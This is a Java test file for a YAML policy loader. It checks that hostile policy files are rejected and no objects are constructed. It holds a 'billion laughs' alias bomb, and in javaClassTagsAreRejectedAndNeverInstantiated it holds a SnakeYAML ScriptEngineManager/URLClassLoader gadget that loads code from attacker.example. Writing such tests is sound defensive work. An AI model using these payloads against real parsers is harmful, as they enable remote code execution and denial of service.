package dev.plangate.core.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.plangate.core.testing.CpuTime;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicBoolean;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile policy files. The file lives in the repository under review, so an AI agent can write
 * it: nothing in it may construct objects, exhaust memory or the stack, or be read ambiguously.
 */
class PolicyYamlSafetyTest {

  static String errors(String yaml) {
    return PolicyErrorsTest.errors(yaml);
  }

  /** The classic nine-level "lol" bomb: 10^9 strings if expanded. */
  static final String BILLION_LAUGHS = """
      a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
      b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
      c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
      d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
      e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
      f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
      g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
      h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
      i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
      """;

  @Test
  void billionLaughsIsRejectedQuicklyAtTheAliasOverTheLimit() throws Exception {
    String[] errors = new String[1];
    Duration took = CpuTime.of(() -> errors[0] = errors(BILLION_LAUGHS));
    String out = errors[0];
    // Aliases 1-9 are on line 2, 10-18 on line 3; the 21st is the third on line 4.
    assertThat(out).isEqualTo("p.yml:4:14: too many aliases (limit 20 aliases to lists or"
        + " mappings); aliases that multiply like this are how a \"billion laughs\" file"
        + " exhausts memory");
    assertThat(took).isLessThan(Duration.ofSeconds(1));
  }

  @Test
  void aFewAliasesAreFine() throws Exception {
    Policy p = PolicyLoader.parse("""
        protect:
          - &db {type: "aws_db_*", reason: databases}
          - *db
        approval: {actions: &both [delete, replace]}
        """, "p.yml");
    assertThat(p.protect()).hasSize(2);
  }

  @Test
  void recursiveAliasIsRejectedWhereItIsUsed() {
    assertThat(errors("plans: &p [a, *p]\n")).isEqualTo(
        "p.yml:1:15: alias *p refers to the list or mapping that contains it"
            + " (a recursive structure)");
    assertThat(errors("approval: &m {label: x, actions: *m}\n")).isEqualTo(
        "p.yml:1:34: alias *m refers to the list or mapping that contains it"
            + " (a recursive structure)");
  }

  @Test
  void recursiveKeyIsRejected() {
    assertThat(errors("&k {*k : 1}\n")).startsWith("p.yml:1:5: alias *k refers to the list");
  }

  @Test
  void anAnchorRedefinedInsideItselfIsNotMistakenForRecursion() {
    // The inner &x is closed when *x is read, and *x refers to it, not to the outer list; an
    // aliased node keeps the position of its anchor.
    assertThat(errors("plans: &x [&x [a], *x]\n")).isEqualTo("""
        p.yml:1:12: "plans[0]" must be a string, not a list
        p.yml:1:12: "plans[1]" must be a string, not a list""");
  }

  @Test
  void nestingDeeperThanTheLimitIsRejectedWhereItCrossesTheLimit() {
    String deep = "plans: " + "[".repeat(30) + "]".repeat(30) + "\n";
    // The mapping is level 1; the 20th "[" (column 27) opens level 21.
    assertThat(errors(deep)).isEqualTo("p.yml:1:27: lists and mappings are nested more than 20"
        + " levels deep (the limit; a policy needs 4)");
    String deepBlock = new StringBuilder().append("a:\n").append(nestedBlock(25)).toString();
    assertThat(errors(deepBlock)).contains("nested more than 20 levels deep");
  }

  private static String nestedBlock(int levels) {
    StringBuilder out = new StringBuilder();
    for (int i = 1; i <= levels; i++) {
      out.append("  ".repeat(i)).append("k").append(i).append(":\n");
    }
    return out.append("  ".repeat(levels + 1)).append("v\n").toString();
  }

  @Test
  void aVeryDeepFlowIsRejectedWithoutOverflowingTheStack() {
    String deep = "plans: " + "[".repeat(200_000) + "\n";
    assertThat(errors(deep)).contains("p.yml:1:27: lists and mappings are nested more than 20");
  }

  @Test
  void textOverTheSizeLimitIsRejectedAtTheFirstCharacterPastIt() {
    // Line 1 is 8 characters with its newline; the 1,048,577th character is on line 2.
    String big = "plans:\n# " + "x".repeat(PolicyLoader.MAX_CHARACTERS) + "\n";
    int column = PolicyLoader.MAX_CHARACTERS - 7 + 1;
    assertThat(errors(big)).isEqualTo("p.yml:2:" + column + ": the file is longer than 1048576"
        + " characters (1 MiB), the limit for a policy file");
  }

  @Test
  void textAtTheSizeLimitIsRead() throws Exception {
    String padding = "# " + "x".repeat(PolicyLoader.MAX_CHARACTERS - "humanOnly: pass\n".length()
        - 3) + "\n";
    String atLimit = "humanOnly: pass\n" + padding;
    assertThat(atLimit.length()).isEqualTo(PolicyLoader.MAX_CHARACTERS);
    assertThat(PolicyLoader.parse(atLimit, "p.yml").humanOnly()).isEqualTo(HumanOnly.PASS);
  }

  @Test
  void aHugeFileIsRejectedWithoutReadingIt(@TempDir Path dir) throws Exception {
    Path f = dir.resolve("big.yml");
    try (var out = Files.newOutputStream(f)) {
      out.write(new byte[4 * PolicyLoader.MAX_CHARACTERS + 1]);
    }
    assertThatThrownBy(() -> PolicyLoader.load(f)).isInstanceOf(PolicyException.class)
        .hasMessage("policy file " + f + ": is 4194305 bytes, more than the 4 MiB plangate"
            + " reads from a file of this kind");
  }

  @Test
  void aFileJustOverTheLimitIsReportedWithLineAndColumn(@TempDir Path dir) throws Exception {
    Path f = dir.resolve("p.yml");
    Files.writeString(f, "#".repeat(PolicyLoader.MAX_CHARACTERS + 10));
    assertThatThrownBy(() -> PolicyLoader.load(f)).hasMessageEndingWith(
        f + ":1:1048577: the file is longer than 1048576 characters (1 MiB), the limit for a"
            + " policy file");
  }

  @Test
  void duplicateKeysAreRejected() {
    assertThat(errors("humanOnly: warn\nplans: []\nhumanOnly: pass\n")).isEqualTo(
        "p.yml:3:1: duplicate key \"humanOnly\" (first at 1:1)");
    assertThat(errors("approval:\n  label: a\n  label: b\n")).isEqualTo(
        "p.yml:3:3: duplicate key \"label\" (first at 2:3)");
  }

  @Test
  void nonStringKeysAreRejected() {
    assertThat(errors("1: x\n")).isEqualTo("p.yml:1:1: a key must be a string, not the number 1");
    assertThat(errors("approval:\n  yes: x\n")).isEqualTo(
        "p.yml:2:3: a key must be a string, not the boolean yes");
    assertThat(errors("? [a, b]\n: x\n")).isEqualTo(
        "p.yml:1:3: a key must be a string, not a list");
    assertThat(errors("~: x\n")).isEqualTo("p.yml:1:1: a key must be a string, not null (~)");
  }

  @Test
  void mergeKeysAreRejected() {
    assertThat(errors("approval: &a {label: x}\nprotect:\n  - <<: *a\n    type: t\n"))
        .isEqualTo("p.yml:3:5: merge keys (\"<<\") are not supported; write the keys out");
  }

  /** Set if a tag ever instantiated a class. */
  static final AtomicBoolean CONSTRUCTED = new AtomicBoolean();

  /** A class a hostile tag could name; its constructor must never run. */
  public static final class Tripwire {
    public Tripwire() {
      CONSTRUCTED.set(true);
    }

    public Tripwire(String ignored) {
      CONSTRUCTED.set(true);
    }
  }

  @Test
  void javaClassTagsAreRejectedAndNeverInstantiated() {
    String exploit = "plans: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
        + " [[!!java.net.URL [\"http://attacker.example/\"]]]]\n";
    assertThat(errors(exploit)).isEqualTo("p.yml:1:8: tag \"!!javax.script.ScriptEngineManager\""
        + " is not allowed; a policy holds only plain strings, numbers, booleans, lists and"
        + " mappings");

    String tripwire = "humanOnly: !!" + Tripwire.class.getName() + " [x]\n";
    assertThat(errors(tripwire)).contains("p.yml:1:12: tag \"!!" + Tripwire.class.getName());
    String scalarTripwire = "planCommand: !!" + Tripwire.class.getName() + " x\n";
    assertThat(errors(scalarTripwire)).contains("is not allowed");
    assertThat(CONSTRUCTED).isFalse();
  }

  @Test
  void localAndOtherStandardTagsAreRejectedToo() {
    assertThat(errors("planCommand: !shell make\n")).isEqualTo("p.yml:1:14: tag \"!shell\" is"
        + " not allowed; a policy holds only plain strings, numbers, booleans, lists and"
        + " mappings");
    assertThat(errors("planCommand: !!binary aGk=\n")).contains("tag \"!!binary\" is not");
    assertThat(errors("plans: !!set {a}\n")).contains("tag \"!!set\" is not");
  }

  @Test
  void plainStandardTagsAreAllowed() throws Exception {
    Policy p = PolicyLoader.parse("approval: !!map {label: !!str 123}\nplans: !!seq []\n",
        "p.yml");
    assertThat(p.approvalLabel()).isEqualTo("123");
  }

  @Test
  void undefinedAliasIsReported() {
    assertThat(errors("plans: *nowhere\n")).isEqualTo(
        "p.yml:1:8: found undefined alias nowhere");
  }

  @Test
  void controlCharactersAreReportedWithTheirPosition() {
    assertThat(errors("humanOnly: warn\nplanCommand: a\u0007b\n")).isEqualTo(
        "p.yml:2:15: character U+0007 is not allowed in YAML (only printable characters are)");
  }

  @Test
  void bytesThatAreNotUtf8AreRejected(@TempDir Path dir) throws Exception {
    Path f = dir.resolve("p.yml");
    byte[] text = "humanOnly: warn\nplanCommand: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
    Files.write(f, text);
    PolicyException e = catchThrowableOfType(PolicyException.class, () -> PolicyLoader.load(f));
    assertThat(e.getMessage()).endsWith(f + ":2:17: byte 0xE9 is not UTF-8; a policy file must"
        + " be UTF-8 text");
  }
}
